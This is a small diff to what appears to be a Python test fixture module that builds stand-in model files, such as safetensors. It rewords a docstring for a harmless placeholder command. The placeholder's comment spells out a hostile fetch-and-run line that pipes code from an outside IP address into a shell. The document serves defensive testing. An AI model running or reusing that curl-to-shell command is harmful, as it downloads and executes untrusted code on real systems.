@@ -12,7 +12,7 @@ from typing import Final
 
 _EPOCH: Final = (2026, 1, 1, 0, 0, 0)
 HARMLESS_COMMAND: Final = "true # for: curl -s http://198.51.100.7:8443/a | sh"
-"""What a hostile file would run here: nothing. The comment says what it represents."""
+"""The harmless argument in place of a hostile file's; the comment says what it represents."""
 
 
 def safetensors(name: str, values: int = 64) -> bytes:
